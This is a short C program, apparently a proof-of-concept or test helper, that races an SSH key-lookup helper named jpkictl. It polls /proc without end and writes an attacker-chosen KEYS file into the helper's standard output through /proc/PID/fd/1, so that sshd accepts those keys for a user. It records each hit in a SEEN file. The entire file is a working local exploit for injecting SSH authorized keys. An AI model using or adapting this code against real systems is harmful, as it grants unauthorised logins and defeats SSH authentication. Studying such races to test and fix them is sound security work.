/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * inject KEYS SEEN: whenever jpkictl starts, opens its standard output by /proc and writes the file
 * KEYS into it: what sshd reads there are a user's keys. As any user that sshd runs jpkictl as, it
 * needs no more than to be there between exec and main(). SEEN gets a dot for each jpkictl that was
 * seen. Ends by a signal.
 */
#include <ctype.h>
#include <dirent.h>
#include <err.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static char keys[2048];
static ssize_t keys_len;
static int seen;

static void
write_into(const char *pid)
{
	char path[64], comm[32] = "";
	int fd;

	snprintf(path, sizeof path, "/proc/%.20s/comm", pid);
	fd = open(path, O_RDONLY);
	if (fd < 0)
		return;
	if (read(fd, comm, sizeof comm - 1) < 0)
		comm[0] = '\0';
	(void)close(fd);
	if (strcmp(comm, "jpkictl\n") != 0)
		return;
	(void)!write(seen, ".", 1);
	snprintf(path, sizeof path, "/proc/%.20s/fd/1", pid);
	fd = open(path, O_WRONLY | O_NONBLOCK);
	if (fd < 0)
		return;
	(void)!write(fd, keys, (size_t)keys_len);
	(void)close(fd);
}

int
main(int argc, char **argv)
{
	int fd;

	if (argc != 3)
		errx(2, "usage: inject KEYS SEEN");
	fd = open(argv[1], O_RDONLY);
	keys_len = fd >= 0 ? read(fd, keys, sizeof keys) : -1;
	seen = open(argv[2], O_WRONLY | O_APPEND);
	if (keys_len <= 0 || seen < 0)
		err(1, "inject");
	for (;;) {
		DIR *proc = opendir("/proc");
		const struct dirent *e;

		if (proc == NULL)
			err(1, "/proc");
		while ((e = readdir(proc)) != NULL)
			if (isdigit((unsigned char)e->d_name[0]))
				write_into(e->d_name);
		(void)closedir(proc);
	}
}
